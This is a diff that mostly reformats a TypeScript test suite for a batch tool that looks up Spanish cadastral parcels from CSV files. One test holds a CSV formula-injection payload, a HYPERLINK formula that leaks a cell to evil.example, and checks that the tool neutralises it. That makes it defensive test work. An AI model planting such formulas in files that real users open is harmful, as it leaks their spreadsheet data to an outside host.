@@ -23,7 +23,9 @@ beforeAll(async () => {
   api = await startTestApi();
   dir = tempDir('catastro-batch-');
 });
-afterAll(async () => { await api?.close(); });
+afterAll(async () => {
+  await api?.close();
+});
 
 function writeInput(name: string, text: string): string {
   const file = path.join(dir, name);
@@ -96,7 +98,11 @@ describe('runBatchFile', () => {
     const csvOut = path.join(dir, 'refs.csv.out.csv');
     await runBatchFile({ input, output: csvOut, find });
     const rows = parse(readFileSync(csvOut, 'utf8'), { columns: true }) as Record<string, string>[];
-    expect(rows.map((r) => [r.row, r.status, r.refCatastral])).toEqual([['1', 'found', SAMPLE_A], ['2', 'found', SAMPLE_B], ['3', 'not_found', '']]);
+    expect(rows.map((r) => [r.row, r.status, r.refCatastral])).toEqual([
+      ['1', 'found', SAMPLE_A],
+      ['2', 'found', SAMPLE_B],
+      ['3', 'not_found', ''],
+    ]);
     expect(Number(rows[0].superficieParcela)).toBeGreaterThan(0);
 
     const geojsonOut = path.join(dir, 'refs.geojson');
@@ -109,15 +115,18 @@ describe('runBatchFile', () => {
   it('looks rows of a farm spreadsheet up by province, municipality, polígono and parcela: copy, live, not found, foral, malformed', async () => {
     // 40146A00500023 answered live: the fake's hand-written Consulta_DNPPP answer, outline cut from the real download.
     api.service.store.db.prepare('DELETE FROM parcels WHERE country = ? AND ref = ?').run('ES', '40146A00500023');
-    const input = writeInput('farm.csv', [
-      'Provincia;Municipio;Polígono;Parcela;Referencia;Cultivo',
-      '40;146;1;5;;cereal',
-      '40;146;5;23;;barbecho',
-      '40;146;999;99999;;pastos',
-      '31;201;6;1838;;viña',
-      '40;146;1000;1;;olivar',
-      `;;;;${SAMPLE_B};huerta`,
-    ].join('\n'));
+    const input = writeInput(
+      'farm.csv',
+      [
+        'Provincia;Municipio;Polígono;Parcela;Referencia;Cultivo',
+        '40;146;1;5;;cereal',
+        '40;146;5;23;;barbecho',
+        '40;146;999;99999;;pastos',
+        '31;201;6;1838;;viña',
+        '40;146;1000;1;;olivar',
+        `;;;;${SAMPLE_B};huerta`,
+      ].join('\n'),
+    );
     const output = path.join(dir, 'farm.out.csv');
     const outcome = await runBatchFile({ input, output, find });
 
@@ -141,16 +150,19 @@ describe('runBatchFile', () => {
   });
 
   it('looks up rows of a SIGPAC/PAC sheet naming the municipality by name or INE code, asking the street directory once for the province, and writes them back', async () => {
-    const input = writeInput('pac.csv', [
-      'Provincia,Municipio,Polígono,Parcela,Recinto',
-      'SEGOVIA,MELQUE DE CERCOS,1,5,1',
-      'Segovia,Melque de Cercos,4,5051,2',
-      'segovia,40125,1,5,3',
-      '40,40125,4,5051,4',
-      '40,Navas,1,5,5',
-      '40,Villanueva de Nadie,1,5,6',
-      'Navarra,Pamplona,6,1838,7',
-    ].join('\n'));
+    const input = writeInput(
+      'pac.csv',
+      [
+        'Provincia,Municipio,Polígono,Parcela,Recinto',
+        'SEGOVIA,MELQUE DE CERCOS,1,5,1',
+        'Segovia,Melque de Cercos,4,5051,2',
+        'segovia,40125,1,5,3',
+        '40,40125,4,5051,4',
+        '40,Navas,1,5,5',
+        '40,Villanueva de Nadie,1,5,6',
+        'Navarra,Pamplona,6,1838,7',
+      ].join('\n'),
+    );
     const directoryBefore = api.callejero.requests.filter((url) => url.includes('ConsultaMunicipio')).length;
     const output = path.join(dir, 'pac.out.csv');
     const outcome = await runBatchFile({ input, output, find });
@@ -174,21 +186,30 @@ describe('runBatchFile', () => {
     expect(api.callejero.requests.filter((url) => url.includes('ConsultaMunicipio')).length - directoryBefore).toBe(1);
   });
 
-  it('writes a CSV no spreadsheet runs as formulas: the user\'s =, +, @ cells get a leading quote, negative coordinates stay numbers, and the result reads back as a batch', async () => {
+  it("writes a CSV no spreadsheet runs as formulas: the user's =, +, @ cells get a leading quote, negative coordinates stay numbers, and the result reads back as a batch", async () => {
     const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
-    const input = writeInput('formulas.csv', [
-      'Latitud,Longitud,nota,otra',
-      `41.06001846893712,-4.470268457843249,"${hyperlink.replaceAll('"', '""')}",@SUM(1)`,
-      `41.06001846893712,-4.470268457843249,+1+1,-2+3`,
-    ].join('\n'));
+    const input = writeInput(
+      'formulas.csv',
+      [
+        'Latitud,Longitud,nota,otra',
+        `41.06001846893712,-4.470268457843249,"${hyperlink.replaceAll('"', '""')}",@SUM(1)`,
+        `41.06001846893712,-4.470268457843249,+1+1,-2+3`,
+      ].join('\n'),
+    );
     const output = path.join(dir, 'formulas.out.csv');
     const outcome = await runBatchFile({ input, output, find });
     expect(outcome.counts).toMatchObject({ total: 2, found: 2 });
 
     const text = readFileSync(output, 'utf8');
     const rows = parse(text, { columns: true }) as Record<string, string>[];
-    expect(rows.map((r) => [r.in_nota, r.in_otra])).toEqual([[`'${hyperlink}`, "'@SUM(1)"], ["'+1+1", "'-2+3"]]);
-    expect(rows.map((r) => [r.in_Latitud, r.in_Longitud])).toEqual([['41.06001846893712', '-4.470268457843249'], ['41.06001846893712', '-4.470268457843249']]);
+    expect(rows.map((r) => [r.in_nota, r.in_otra])).toEqual([
+      [`'${hyperlink}`, "'@SUM(1)"],
+      ["'+1+1", "'-2+3"],
+    ]);
+    expect(rows.map((r) => [r.in_Latitud, r.in_Longitud])).toEqual([
+      ['41.06001846893712', '-4.470268457843249'],
+      ['41.06001846893712', '-4.470268457843249'],
+    ]);
     // The parcel's centroid, a number, is written as one too (its longitude is negative).
     expect(Number(rows[0].longitud)).toBeLessThan(0);
     // No cell of the file, quoted or not, begins with a formula character once parsed.
@@ -196,7 +217,12 @@ describe('runBatchFile', () => {
     expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && Number.isNaN(Number(cell))))).toEqual([]);
 
     // Round trip: the result, fed back as a batch naming its coordinate columns, finds the same parcels.
-    const again = await runBatchFile({ input: output, output: path.join(dir, 'formulas.again.csv'), columns: { latitude: 'in_Latitud', longitude: 'in_Longitud' }, find });
+    const again = await runBatchFile({
+      input: output,
+      output: path.join(dir, 'formulas.again.csv'),
+      columns: { latitude: 'in_Latitud', longitude: 'in_Longitud' },
+      find,
+    });
     expect(again.counts).toMatchObject({ total: 2, found: 2 });
     expect(again.results.map((r) => r.parcel?.refCatastral)).toEqual(outcome.results.map((r) => r.parcel?.refCatastral));
   });
@@ -207,7 +233,10 @@ describe('runBatchFile', () => {
     const stop = new AbortController();
     const asked: string[] = [];
     const first = await runBatchFile({
-      input, output, concurrency: 1, signal: stop.signal,
+      input,
+      output,
+      concurrency: 1,
+      signal: stop.signal,
       find: async (query, signal) => {
         asked.push((query as { reference: string }).reference);
         const parcel = await find(query, signal);
@@ -222,7 +251,14 @@ describe('runBatchFile', () => {
     // Second run: the live source is down, so the live finca and the unknown reference fail and stay retryable.
     api.fake.setFault({ kind: 'status', status: 503 });
     const secondAsked: string[] = [];
-    const second = await runBatchFile({ input, output, find: (q, s) => { secondAsked.push((q as { reference: string }).reference); return find(q, s); } });
+    const second = await runBatchFile({
+      input,
+      output,
+      find: (q, s) => {
+        secondAsked.push((q as { reference: string }).reference);
+        return find(q, s);
+      },
+    });
     api.fake.setFault({ kind: 'none' });
     expect(second.resumed).toBe(1);
     expect(secondAsked.sort()).toEqual([LIVE_FINCA, SAMPLE_B, UNKNOWN].sort());
@@ -230,7 +266,14 @@ describe('runBatchFile', () => {
     expect(second.journal).toBeDefined();
 
     const thirdAsked: string[] = [];
-    const third = await runBatchFile({ input, output, find: (q, s) => { thirdAsked.push((q as { reference: string }).reference); return find(q, s); } });
+    const third = await runBatchFile({
+      input,
+      output,
+      find: (q, s) => {
+        thirdAsked.push((q as { reference: string }).reference);
+        return find(q, s);
+      },
+    });
     expect(thirdAsked.every((ref) => ref === LIVE_FINCA || ref === UNKNOWN)).toBe(true);
     expect(third.counts).toMatchObject({ total: 4, done: 4, found: 3, notFound: 1, failed: 0 });
     expect(third.journal).toBeUndefined();
@@ -238,8 +281,13 @@ describe('runBatchFile', () => {
 
   it('refuses a CSV without reference or coordinate columns, naming the columns it has, and a named column that is absent', async () => {
     const input = writeInput('bad.csv', 'name,city\nx,y\n');
-    await expect(runBatchFile({ input, output: path.join(dir, 'bad.csv.gpkg'), find })).rejects.toMatchObject({ code: 'VALIDATION_ERROR', message: expect.stringContaining('name, city') });
-    await expect(runBatchFile({ input, output: path.join(dir, 'bad2.gpkg'), columns: { reference: 'ref' }, find })).rejects.toMatchObject({ code: 'VALIDATION_ERROR' });
+    await expect(runBatchFile({ input, output: path.join(dir, 'bad.csv.gpkg'), find })).rejects.toMatchObject({
+      code: 'VALIDATION_ERROR',
+      message: expect.stringContaining('name, city'),
+    });
+    await expect(runBatchFile({ input, output: path.join(dir, 'bad2.gpkg'), columns: { reference: 'ref' }, find })).rejects.toMatchObject({
+      code: 'VALIDATION_ERROR',
+    });
     await expect(runBatchFile({ input, output: path.join(dir, 'bad.txt'), find })).rejects.toMatchObject({ code: 'VALIDATION_ERROR' });
     // The named column wins over detection.
     const named = writeInput('named.csv', `finca,nota\n${SAMPLE_B},x\n`);
@@ -255,7 +303,8 @@ describe('runBatchFile', () => {
     truncateSync(input, 700 * 1024 * 1024);
     const started = Date.now();
     await expect(runBatchFile({ input, output: path.join(dir, 'huge.out.csv'), find })).rejects.toMatchObject({
-      code: 'VALIDATION_ERROR', message: expect.stringMatching(/huge\.csv is larger than 20 MiB; split it into several batches/),
+      code: 'VALIDATION_ERROR',
+      message: expect.stringMatching(/huge\.csv is larger than 20 MiB; split it into several batches/),
     });
     expect(Date.now() - started).toBeLessThan(2_000);
     expect(existsSync(path.join(dir, 'huge.out.csv'))).toBe(false);
@@ -267,7 +316,8 @@ describe('runBatchFile', () => {
     const input = writeInput('million.csv', `refcat\n${`${SAMPLE_B}\n`.repeat(1_000_000)}`);
     const started = Date.now();
     await expect(runBatchFile({ input, output: path.join(dir, 'million.out.csv'), find })).rejects.toMatchObject({
-      code: 'VALIDATION_ERROR', message: 'The CSV has more than 100000 rows; a batch takes at most 100000.',
+      code: 'VALIDATION_ERROR',
+      message: 'The CSV has more than 100000 rows; a batch takes at most 100000.',
     });
     expect(Date.now() - started).toBeLessThan(5_000);
   });
